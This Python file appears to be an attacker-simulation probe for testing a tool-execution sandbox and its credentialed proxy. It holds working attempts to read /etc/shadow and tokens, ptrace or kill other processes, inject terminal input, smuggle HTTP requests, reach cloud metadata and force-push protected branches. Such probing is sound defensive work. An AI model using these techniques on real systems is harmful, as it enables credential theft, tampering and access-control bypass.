#!/usr/bin/python3
"""What an attacker's program does once a tool runs it: reads, writes, connects,
looks at other processes, and asks the gate for more than the call may.

It leaves `.ran` in the workspace as soon as it runs, and what it got in `.loot`.
Without arguments it does everything; with names, only those. World: `.world.json`
beside this file. Bytes are got or they are not: errors are not told apart.
"""
import ctypes
import json
import os
import socket
import struct
import sys
import time

HERE = os.path.dirname(os.path.abspath(__file__))
with open(os.path.join(HERE, ".world.json")) as file:
    WORLD = json.load(file)
LIBC = ctypes.CDLL(None, use_errno=True)
LOOT = []


def got(what, data=b""):
    # The mark is not in this file: whoever looks for it finds what was got.
    LOOT.append(what.replace("GOT!", "TO" + "OK").encode() + b": " + data)


def read(what, path):
    with open(path, "rb") as file:
        got(what, file.read(1 << 20))


def syscall(number, *arguments):
    result = LIBC.syscall(ctypes.c_long(number), *[ctypes.c_long(a) if isinstance(a, int) else a for a in arguments])
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def processes():
    return [int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]


def victims():
    """The server and the process of another call, as the machine numbers them."""
    return [pid for pid in WORLD["victims"]]


# --- Reading -----------------------------------------------------------------

def read_token():
    read("GOT!", WORLD["token"])

def read_outside():
    read("GOT!", WORLD["outside"] + "/secret.txt")

def read_shadow():
    read("GOT!", "/etc/shadow")

def read_audit():
    for name in os.listdir(WORLD["state"] + "/audit"):
        read("GOT!", WORLD["state"] + "/audit/" + name)

def read_other_home():
    read("GOT!", WORLD["state"] + "/home/other/secret")

def read_state():
    os.listdir(WORLD["state"])
    got("GOT! state")

def read_log():
    read("GOT!", WORLD["log"])

def read_by_proc_root():
    read("GOT!", "/proc/self/root" + WORLD["outside"] + "/secret.txt")

def read_by_victims_root():
    for pid in victims():
        try:
            read("GOT!", f"/proc/{pid}/root{WORLD['outside']}/secret.txt")
        except OSError:
            continue

def read_by_link():
    link = os.path.join(HERE, ".link")
    if os.path.lexists(link):
        os.unlink(link)
    os.symlink(WORLD["outside"] + "/secret.txt", link)
    read("GOT!", link)

def read_by_hard_link():
    link = os.path.join(HERE, ".hard")
    if os.path.lexists(link):
        os.unlink(link)
    os.link(WORLD["outside"] + "/secret.txt", link)
    read("GOT!", link)

def read_by_descriptors():
    for name in os.listdir("/proc/self/fd"):
        target = os.readlink("/proc/self/fd/" + name)
        if WORLD["base"] in target and HERE not in target and "/ws" not in target and "/state/home" not in target:
            got("GOT! descriptor " + target)

def read_by_handle():
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
    mount = ctypes.c_int()
    syscall(303, -100, ctypes.c_char_p((WORLD["outside"] + "/secret.txt").encode()), handle, ctypes.byref(mount), 0)
    where = os.open(HERE, os.O_RDONLY)
    descriptor = syscall(304, where, handle, 0)
    got("GOT!", os.read(descriptor, 4096))

# --- Other processes ---------------------------------------------------------

def each_victim(do):
    for pid in victims():
        try:
            do(pid)
        except OSError:
            continue

def environ_of_others():
    for pid in processes() + victims():
        try:
            read("environ", f"/proc/{pid}/environ")
        except OSError:
            continue

def memory_of_others():
    def one(pid):
        with open(f"/proc/{pid}/maps") as file:
            got("GOT! maps", file.read().encode())
    each_victim(one)

def write_memory_of_others():
    def one(pid):
        os.close(os.open(f"/proc/{pid}/mem", os.O_RDWR))
        got("GOT! mem")
    each_victim(one)

def descriptors_of_others():
    def one(pid):
        for name in os.listdir(f"/proc/{pid}/fd"):
            os.close(os.open(f"/proc/{pid}/fd/{name}", os.O_RDONLY))
            got("GOT! fd")
    each_victim(one)

def directory_of_others():
    def one(pid):
        os.listdir(f"/proc/{pid}/cwd")
        got("GOT! cwd")
    each_victim(one)

def argv_of_others():
    def one(pid):
        with open(f"/proc/{pid}/cmdline", "rb") as file:
            got("GOT! argv", file.read())
    each_victim(one)

def kill_others():
    each_victim(lambda pid: (os.kill(pid, 9), got("GOT! killed")))

def signal_others():
    each_victim(lambda pid: (os.kill(pid, 0), got("GOT! signal")))

def pidfd_signal():
    each_victim(lambda pid: (syscall(424, syscall(434, pid, 0), 9, 0, 0), got("GOT! pidfd signal")))

def ptrace():
    each_victim(lambda pid: (syscall(101, 16, pid, 0, 0), got("GOT! ptrace")))

def ptrace_seize():
    each_victim(lambda pid: (syscall(101, 0x4206, pid, 0, 0), got("GOT! ptrace")))

def process_vm_readv():
    def one(pid):
        buffer = ctypes.create_string_buffer(16)
        local = struct.pack("QQ", ctypes.addressof(buffer), 16)
        remote = struct.pack("QQ", 0x400000, 16)
        syscall(310, pid, ctypes.c_char_p(local), 1, ctypes.c_char_p(remote), 1, 0)
        got("GOT! vm")
    each_victim(one)

def pidfd_getfd():
    def one(pid):
        syscall(438, syscall(434, pid, 0), 0, 0)
        got("GOT! pidfd_getfd")
    each_victim(one)

def limits_of_others():
    def one(pid):
        syscall(302, pid, 7, ctypes.c_char_p(struct.pack("QQ", 1, 1)), 0)
        got("GOT! prlimit")
    each_victim(one)

def priority_of_others():
    each_victim(lambda pid: (os.sched_setaffinity(pid, {0}), got("GOT! affinity")))

# --- Writing -----------------------------------------------------------------

def write_outside():
    with open(WORLD["outside"] + "/target.txt", "w") as file:
        file.write("owned")

def create_outside():
    with open(WORLD["outside"] + "/new.txt", "w") as file:
        file.write("owned")

def mkdir_outside():
    os.mkdir(WORLD["outside"] + "/newdir")

def link_outside():
    os.symlink("/etc/passwd", WORLD["outside"] + "/newlink")

def truncate_outside():
    os.truncate(WORLD["outside"] + "/target.txt", 0)

def remove_outside():
    os.unlink(WORLD["outside"] + "/target.txt")

def rename_outside():
    os.rename(WORLD["outside"] + "/target.txt", os.path.join(HERE, ".moved"))

def move_in_outside():
    with open(os.path.join(HERE, ".mine"), "w") as file:
        file.write("owned")
    os.rename(os.path.join(HERE, ".mine"), WORLD["outside"] + "/mine")

def exchange_outside():
    with open(os.path.join(HERE, ".mine2"), "w") as file:
        file.write("owned")
    syscall(316, -100, ctypes.c_char_p(os.path.join(HERE, ".mine2").encode()), -100,
            ctypes.c_char_p((WORLD["outside"] + "/target.txt").encode()), 2)

def fifo_outside():
    os.mkfifo(WORLD["outside"] + "/fifo")

def socket_outside():
    socket.socket(socket.AF_UNIX).bind(WORLD["outside"] + "/newsock")

def write_other_home():
    with open(WORLD["state"] + "/home/other/owned", "w") as file:
        file.write("owned")

def write_state():
    with open(WORLD["state"] + "/approvals.json", "w") as file:
        file.write("{}")

def write_tools():
    os.mkdir(WORLD["tools"] + "/evil")

def chmod_others():
    os.chmod(WORLD["token"], 0o600)

def write_by_victims_root():
    def one(pid):
        with open(f"/proc/{pid}/root{WORLD['outside']}/target.txt", "w") as file:
            file.write("owned")
    each_victim(one)

def write_tmp():
    with open("/tmp/tool-broker-attack-" + str(os.getpid()), "w") as file:
        got("GOT! /tmp")
    os.unlink("/tmp/tool-broker-attack-" + str(os.getpid()))

def write_kernel():
    with open("/proc/sys/kernel/hostname", "w") as file:
        file.write(os.uname().nodename)
        got("GOT! hostname")

def write_oom():
    def one(pid):
        with open(f"/proc/{pid}/oom_score_adj", "w") as file:
            file.write("1000")
            got("GOT! oom")
    each_victim(one)

def environment_variable():
    if os.environ.get("EVIL"):
        got("GOT! the caller's variable")

# --- Rights ------------------------------------------------------------------

def set_uid_file():
    path = os.path.join(HERE, ".suid")
    with open(path, "w") as file:
        file.write("#!/bin/sh\nid\n")
    os.chmod(path, 0o4755)
    if os.stat(path).st_uid == 0 and os.getuid() == 0 and not WORLD["shared"]:
        got("GOT! set-uid root")

def become_root():
    if os.getuid() != 0:
        os.setuid(0)
        got("GOT! uid 0")

def gain_by_sudo():
    for program in ("sudo", "su", "pkexec", "newgrp", "passwd"):
        for directory in ("/usr/bin", "/bin"):
            path = f"{directory}/{program}"
            if os.path.exists(path) and os.getuid() != 0:
                with open("/proc/self/status") as file:
                    if "NoNewPrivs:\t0" in file.read():
                        got("GOT! new privileges are possible")

def capabilities():
    with open("/proc/self/status") as file:
        for line in file:
            if line.startswith(("CapEff", "CapPrm", "CapInh", "CapAmb")) and int(line.split()[1], 16) != 0:
                got("GOT! " + line.strip())

def groups():
    if [group for group in os.getgroups() if group != os.getgid()] and not WORLD["shared"]:
        got("GOT! groups")

def mknod():
    os.mknod(os.path.join(HERE, ".disk"), 0o60600, os.makedev(254, 0))
    got("GOT! a device")

def mount():
    syscall(165, ctypes.c_char_p(b"none"), ctypes.c_char_p(HERE.encode()), ctypes.c_char_p(b"tmpfs"), 0, 0)
    got("GOT! mount")

def new_mount():
    syscall(430, ctypes.c_char_p(b"tmpfs"), 0)
    got("GOT! fsopen")

def open_tree():
    syscall(428, -100, ctypes.c_char_p(b"/"), 1)
    got("GOT! open_tree")

def unshare_user():
    syscall(272, 0x10000000)
    got("GOT! user namespace")

def unshare_net():
    syscall(272, 0x40000000)
    got("GOT! net namespace")

def clone_user():
    pid = syscall(56, 0x10000000 | 17, 0, 0, 0, 0)
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)
    got("GOT! user namespace by clone")

def clone3_user():
    arguments = struct.pack("QQQQQQQQ", 0x10000000, 0, 0, 0, 17, 0, 0, 0)
    pid = syscall(435, ctypes.c_char_p(arguments), 64)
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)
    got("GOT! user namespace by clone3")

def setns():
    def one(pid):
        syscall(308, os.open(f"/proc/{pid}/ns/mnt", os.O_RDONLY), 0)
        got("GOT! setns")
    each_victim(one)

def chroot():
    os.chroot(HERE)
    got("GOT! chroot")

def bpf():
    syscall(321, 0, ctypes.c_char_p(bytes(128)), 128)
    got("GOT! bpf")

def userfaultfd():
    syscall(323, 1)
    got("GOT! userfaultfd")

def perf():
    attributes = struct.pack("IIQ", 1, 112, 0) + bytes(96)
    syscall(298, ctypes.c_char_p(attributes), 0, -1, -1, 0)
    got("GOT! perf")

def io_uring():
    syscall(425, 4, ctypes.c_char_p(bytes(120)))
    got("GOT! io_uring")

def keys():
    syscall(248, ctypes.c_char_p(b"user"), ctypes.c_char_p(b"n"), ctypes.c_char_p(b"v"), 1, -3)
    got("GOT! add_key")

def keyctl():
    syscall(250, 0, -3, 1)
    got("GOT! keyctl")

def kernel_log():
    syscall(103, 3, ctypes.c_char_p(bytes(4096)), 4096)
    got("GOT! syslog")

def old_architecture():
    if syscall(39) == syscall(0x40000000 + 39):
        got("GOT! x32")

# --- The network -------------------------------------------------------------

def tcp():
    with socket.create_connection(("127.0.0.1", WORLD["port"]), 2) as stream:
        stream.sendall(b"GOT! tcp")

def tcp6():
    with socket.socket(socket.AF_INET6) as stream:
        stream.settimeout(2)
        stream.connect(("::1", WORLD["port"]))
        stream.sendall(b"GOT! tcp6")

def udp():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as stream:
        stream.sendto(b"GOT! udp", ("127.0.0.1", WORLD["port"]))

def listen():
    with socket.socket() as stream:
        stream.bind(("127.0.0.1", 0))
        stream.listen()
        if WORLD["level"] == "landlock":
            got("GOT! a listening socket")

def listen_anew():
    # One that waits for its connection can be disconnected; listen(2) gives it a name.
    kept = [socket.socket()]
    while kept[-1].getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1)[0] == 1 and len(kept) < 500:
        kept.append(socket.socket(socket.AF_INET, socket.SOCK_STREAM | socket.SOCK_NONBLOCK))
    try:
        kept[-1].shutdown(socket.SHUT_RDWR)
    except OSError:
        pass
    kept[-1].listen()
    if WORLD["level"] == "landlock":
        got("GOT! a listening socket")

def unix():
    with socket.socket(socket.AF_UNIX) as stream:
        stream.connect(WORLD["unix"])
        stream.sendall(b"GOT! unix")

def unix_datagram():
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as stream:
        stream.sendto(b"GOT! unix datagram", WORLD["unix_datagram"])

def abstract():
    with socket.socket(socket.AF_UNIX) as stream:
        stream.connect("\0" + WORLD["abstract"])
        stream.sendall(b"GOT! abstract")

def control():
    with socket.socket(socket.AF_UNIX) as stream:
        stream.settimeout(2)
        stream.connect(WORLD["control"])
        message = b'{"op":"status"}'
        stream.sendall(struct.pack(">I", len(message)) + message)
        answer = stream.recv(1 << 16)
        if answer and b"peer_refused" not in answer:
            got("GOT! status", answer)

def broker():
    with socket.socket(socket.AF_UNIX) as stream:
        stream.settimeout(2)
        stream.connect(WORLD["socket"])
        message = b'{"op":"tools"}'
        stream.sendall(struct.pack(">I", len(message)) + message)
        if stream.recv(1 << 16):
            got("GOT! tools")

def unix_by_pair():
    """Carries a descriptor of a directory out over an inherited socket."""
    for name in os.listdir("/proc/self/fd"):
        try:
            if not os.readlink("/proc/self/fd/" + name).startswith("socket:"):
                continue
            stream = socket.socket(fileno=os.dup(int(name)))
            if stream.family == socket.AF_UNIX:
                got("GOT! a Unix socket of the caller's")
        except OSError:
            continue

def family(number, kind):
    def one():
        socket.socket(number, kind, 0).close()
        got(f"GOT! socket family {number}")
    return one

raw = family(socket.AF_INET, socket.SOCK_RAW)
packet = family(17, socket.SOCK_RAW)
vsock = family(40, socket.SOCK_STREAM)
alg = family(38, 5)
bluetooth = family(31, 3)
can = family(29, 3)
tipc = family(30, 5)
xdp = family(44, 3)

def fast_open():
    with socket.socket() as stream:
        stream.sendto(b"GOT! fast open", 0x20000000, ("127.0.0.1", WORLD["port"]))

def mptcp():
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262) as stream:
        stream.settimeout(2)
        stream.connect(("127.0.0.1", WORLD["port"]))
        stream.sendall(b"GOT! mptcp")

def sctp():
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132) as stream:
        stream.settimeout(2)
        stream.connect(("127.0.0.1", WORLD["port"]))

# --- The terminal ------------------------------------------------------------

def terminal(request, argument):
    def one():
        descriptor = os.open("/dev/tty", os.O_RDWR)
        LIBC.ioctl.argtypes = [ctypes.c_int, ctypes.c_ulong, ctypes.c_char_p]
        if LIBC.ioctl(descriptor, request, argument) < 0:
            raise OSError(ctypes.get_errno(), "ioctl")
        got("GOT! ioctl %x" % request)
    return one

tiocsti = terminal(0x5412, b"x")
tiocsti_high = terminal(0x100005412, b"x")
tioclinux = terminal(0x541C, b"\x02")
tioclinux_high = terminal(0x7FFF0000541C, b"\x02")

# --- The gate ----------------------------------------------------------------

def proxy():
    """The proxy of this call, with its secret, as any program of it finds it."""
    for name in ("http_proxy", "HTTP_PROXY", "https_proxy"):
        if os.environ.get(name):
            return os.environ[name]
    for index in range(int(os.environ.get("GIT_CONFIG_COUNT", "0"))):
        if os.environ.get(f"GIT_CONFIG_KEY_{index}") == "http.proxy":
            return os.environ[f"GIT_CONFIG_VALUE_{index}"]
    raise OSError("no proxy")

def dial():
    from urllib.parse import urlparse
    url = urlparse(proxy())
    stream = socket.create_connection((url.hostname, url.port), 5)
    stream.settimeout(5)
    return stream

def authorized(request):
    from base64 import b64encode
    from urllib.parse import urlparse
    url = urlparse(proxy())
    password = b64encode(f"{url.username}:{url.password}".encode())
    request = request if isinstance(request, bytes) else request.encode()
    return request.replace(b"{auth}", b"Proxy-Authorization: Basic " + password + b"\r\n")

def through_gate(request, body=b""):
    with dial() as stream:
        stream.sendall(authorized(request) + authorized(body))
        answer = b""
        while True:
            piece = stream.recv(65536)
            if not piece:
                break
            answer += piece
            if len(answer) > 1 << 20:
                break
        return answer

def ask(line, host, more=""):
    return f"{line} HTTP/1.1\r\nHost: {host}\r\n{{auth}}Connection: close\r\n{more}\r\n"

def gate_elsewhere():
    if b"GOT!" in through_gate(ask(f"GET http://127.0.0.1:{WORLD['port']}/", f"127.0.0.1:{WORLD['port']}")):
        got("GOT! another host by the gate")

def gate_connect():
    if b" 200" in through_gate(ask(f"CONNECT 127.0.0.1:{WORLD['port']}", f"127.0.0.1:{WORLD['port']}"))[:20]:
        got("GOT! a tunnel")

def gate_metadata():
    if b" 200" in through_gate(ask("GET http://169.254.169.254/latest/meta-data/", "169.254.169.254"))[:20]:
        got("GOT! metadata")

def gate_repository():
    answer = through_gate(ask("GET http://github.com/private/secrets.git/info/refs?service=git-upload-pack", "github.com"))
    if b"refs/heads" in answer:
        got("GOT! another repository", answer)

def gate_climb():
    for path in ("o/r.git/../../private/secrets.git", "o/r.git/%2e%2e/%2e%2e/private/secrets.git", "o//../private/secrets.git", "o/r.git/..%2f..%2fprivate/secrets.git"):
        answer = through_gate(ask(f"GET http://github.com/{path}/info/refs?service=git-upload-pack", "github.com"))
        if b"refs/heads" in answer:
            got("GOT! another repository", answer)

def gate_host_header():
    answer = through_gate(ask("GET http://github.com/o/r.git/info/refs?service=git-upload-pack", f"127.0.0.1:{WORLD['port']}"))
    if b"refs/heads" in answer and b" 200" in answer[:20]:
        got("asked with another Host")

def push(*lines):
    """By git itself, in the directory that it was started in, by the call's own proxy."""
    import subprocess
    environment = {name: value for name, value in os.environ.items() if not name.startswith("GIT_QUARANTINE")}
    for line in lines:
        subprocess.run(["git", "-c", "core.hooksPath=/dev/null", "-c", "http.proxy=" + proxy(),
                        "-c", "url.http://github.com/.insteadOf=https://github.com/", "push", *line],
                       env=environment, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=20)

def gate_push():
    """Pushes to branches that a rule forbids."""
    push(["http://github.com/o/r.git", "topic:refs/heads/protected"],
         ["--force", "http://github.com/o/r.git", "topic:refs/heads/main"],
         ["http://github.com/o/r.git", ":refs/heads/main"],
         ["https://github.com/o/r.git", "topic:refs/heads/fine", "+topic:refs/heads/protected"])

def gate_sneak():
    """Pushes to a branch that anybody may push to, from a call that does not push."""
    push(["-f", "http://github.com/o/r.git", "topic:refs/heads/stolen"])

def gate_commands():
    """A push by hand: commands, and a second list of them behind a flush. What is
    pushed has to be there already; a ref that goes needs no more than its name."""
    from hashlib import sha1
    zero = b"0" * 40
    with open(".head", "rb") as file:
        one = file.read().strip()
    main = through_gate(ask("GET http://github.com/o/r.git/info/refs?service=git-receive-pack", "github.com"))
    main = main[main.index(b" refs/heads/main") - 40:][:40]
    pack = b"PACK" + struct.pack(">II", 2, 0)
    pack += sha1(pack).digest()
    def line(old, new, ref, more=b"\0report-status"):
        text = old + b" " + new + b" refs/heads/" + ref + more
        return b"%04x" % (len(text) + 4) + text
    for body in (line(zero, one, b"protected") + b"0000" + pack,
                 line(main, zero, b"main") + b"0000",
                 line(zero, one, b"fine1") + line(main, zero, b"main", b"") + b"0000" + pack,
                 line(zero, one, b"fine2") + b"0000" + line(zero, one, b"protected") + b"0000" + pack,
                 line(zero, one, b"../heads/protected") + b"0000" + pack,
                 line(zero, one, b"fine3\0report-status\0", b"") + line(zero, one, b"protected", b"\n") + b"0000" + pack,
                 b"0000" + line(main, zero, b"main") + b"0000",
                 line(zero, one, b"protected\n", b"") + b"0000" + pack):
        through_gate(ask("POST http://github.com/o/r.git/git-receive-pack", "github.com",
                         f"Content-Type: application/x-git-receive-pack-request\r\nContent-Length: {len(body)}\r\n"), body)

SECRETS = "http://github.com/private/secrets.git/info/refs?service=git-upload-pack"

def gate_second_request():
    """Another request behind an honest one: by two lengths, in a body, in a header."""
    second = f"GET {SECRETS} HTTP/1.1\r\nHost: github.com\r\n{{auth}}\r\n"
    plain = second.replace("{auth}", "")
    honest = "POST http://github.com/o/r.git/git-upload-pack"
    for more, body in ((f"Content-Length: {len(plain) + 5}\r\nTransfer-Encoding: chunked\r\n", "0\r\n\r\n" + second),
                       ("Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n", "0\r\n\r\n" + second),
                       (f"Content-Length: 0\r\nContent-Length: {len(plain)}\r\n", second),
                       ("Transfer-Encoding: chunked, x\r\n", "0\r\n\r\n" + second),
                       ("X: y\r\n\r\n" + second, "")):
        if b"refs/heads" in through_gate(ask(honest, "github.com", more), body.encode()):
            got("GOT! another repository behind a request")

def gate_address():
    """The host, written so that two readers take it for two."""
    port = WORLD["port"]
    for line in (f"GET http://github.com@127.0.0.1:{port}/o/r.git/info/refs?service=git-upload-pack",
                 f"GET http://127.0.0.1:{port}\\@github.com/o/r.git/info/refs?service=git-upload-pack",
                 f"GET http://127.0.0.1:{port}#@github.com/o/r.git/info/refs?service=git-upload-pack",
                 f"GET http://github.com:{port}/o/r.git/info/refs?service=git-upload-pack"):
        through_gate(ask(line, "github.com"))

def gate_other_pages():
    """What a forge has beside git: with the credential these would be its owner's."""
    for line in ("GET http://github.com/settings/tokens", "GET http://github.com/o/r.git/config",
                 "GET http://github.com/o/r.git/HEAD", "GET http://github.com/o/r.git/objects/info/packs",
                 "POST http://github.com/o/r.git/info/lfs/objects/batch", "GET http://github.com/o/r.git/info/refs",
                 "GET http://github.com/o/r.git/info/refs?service=git-upload-archive", "DELETE http://github.com/o/r.git",
                 "TRACE http://github.com/o/r.git/info/refs?service=git-upload-pack"):
        if b" 200" in through_gate(ask(line, "github.com", "Content-Length: 0\r\n"))[:20]:
            got("GOT! another page: " + line)

def gate_plain_tunnel():
    """Bytes that are no TLS, in a tunnel to a host that is listed."""
    stream = dial()
    stream.sendall(authorized(ask(f"CONNECT localhost:{WORLD['port']}", f"localhost:{WORLD['port']}")))
    if b" 200" in stream.recv(4096)[:20]:
        stream.sendall(b"GET / HTTP/1.1\r\nHost: GOT!\r\n\r\n".replace(b"GOT!", b"TO" + b"OK"))
        stream.recv(4096)

def gate_paths():
    """Another path than those that the gate lists."""
    through_gate(ask("GET http://api.example/o/../private/secrets", "api.example"))

def gate_link():
    """A link of a host's to a place that no gate lists: whoever has it needs no log-in."""
    for place in ("api.example/x", "registry.npmjs.org/left/-/left-1.0.0.tgz"):
        answer = through_gate(ask(f"GET http://{place}?to=http://elsewhere.example/", place.split("/")[0]))
        if b"signature=" in answer:
            got("GOT! a link", answer)

def gate_followed():
    """A link that the gate follows, into a network that it has for other hosts."""
    through_gate(ask(f"GET http://registry.npmjs.org/left/-/left-1.0.0.tgz?to=http://localhost:{WORLD['port']}/", "registry.npmjs.org"))

def gate_large():
    """What a host gives for large files: links, and tokens for them."""
    batch = json.dumps({"operation": "download", "objects": [{"oid": "ab" * 32, "size": 1}]})
    answer = through_gate(ask("POST http://github.com/o/r.git/info/lfs/objects/batch", "github.com",
                              f"Content-Length: {len(batch)}\r\n"), batch)
    if b"signature=" in answer:
        got("GOT! a link of a large file", answer)

def gate_token():
    """A page of the registry that makes a token."""
    answer = through_gate(ask("POST http://registry.npmjs.org/-/npm/v1/tokens", "registry.npmjs.org", "Content-Length: 2\r\n"), "{}")
    if b'"token"' in answer:
        got("GOT! a token", answer)

def gate_private():
    """A name that leads to this machine."""
    through_gate(ask(f"GET http://localhost:{WORLD['port']}/", f"localhost:{WORLD['port']}"))

def gate_body():
    """Something that is approved when nobody waits for it any more, and then another
    thing that begins in the same way."""
    for last in ("good", "evil"):
        body = "x" * 400 + last
        length = f"Content-Length: {len(body)}\r\n"
        request = ask("POST http://api.example/x", "api.example", length)
        through_gate(request, body)
        time.sleep(3)

def gate_headers():
    answer = through_gate(ask("GET http://github.com/o/r.git/info/refs?service=git-upload-pack", "github.com",
                              "Authorization: Basic eDp5\r\nX-Forwarded-For: 127.0.0.1\r\nCookie: a=b\r\n"))
    for name in (b"set-cookie", b"www-authenticate", b"authorization"):
        if name in answer.split(b"\r\n\r\n")[0].lower():
            got("GOT! the header " + name.decode(), answer)

def gate_without_secret():
    from urllib.parse import urlparse
    url = urlparse(proxy())
    with socket.create_connection((url.hostname, url.port), 5) as stream:
        stream.sendall(ask("GET http://github.com/o/r.git/info/refs?service=git-upload-pack", "github.com").replace("{auth}", "").encode())
        answer = b""
        while piece := stream.recv(65536):
            answer += piece
        if b"refs/heads" in answer:
            got("GOT! the gate without its secret")


def everything():
    return {name: what for name, what in globals().items()
            if callable(what) and getattr(what, "__module__", "") == "__main__"
            and name not in HELPERS}


HELPERS = {"got", "read", "syscall", "processes", "victims", "each_victim", "family", "terminal",
           "proxy", "dial", "authorized", "through_gate", "ask", "push", "everything", "main"}
# Only where they are named: whether they are an attack depends on the call.
NAMED = ["gate_sneak", "gate_plain_tunnel", "gate_body", "argv_of_others", "chmod_others", "environment_variable"]
# They end this process, or are only for a process of their own.
# Node gives its children sockets of its own, which look the same.
LAST = ["unix_by_pair", "unshare_user", "unshare_net", "chroot", "gate_push", "gate_commands"]


def main():
    with open(os.path.join(HERE, ".ran"), "a") as file:
        file.write(" ".join(sys.argv) + "\n")
    got("environment", "\n".join(f"{k}={v}" for k, v in os.environ.items()).encode())
    probes = everything()
    names = [name for name in sys.argv[1:] if name in probes]
    if not names:
        names = [name for name in probes if name not in LAST + NAMED and not name.startswith("gate_")]
        if WORLD["gate"]:
            names += [name for name in probes if name.startswith("gate_") and name not in NAMED]
    began = time.monotonic()
    for name in names:
        try:
            probes[name]()
        except Exception as error:  # whatever stops it, it is stopped
            LOOT.append(f"({name}, {time.monotonic() - began:.1f} s: {error})".encode(errors="replace"))
        with open(os.path.join(HERE, ".loot"), "ab") as file:
            file.write(b"\n".join(LOOT) + b"\n")
        LOOT.clear()
    sys.stdout.flush()
    # Whoever called it goes on: a filter gives back what it got.
    if not sys.stdin.isatty() and "--cat" in sys.argv:
        sys.stdout.buffer.write(sys.stdin.buffer.read())


main()
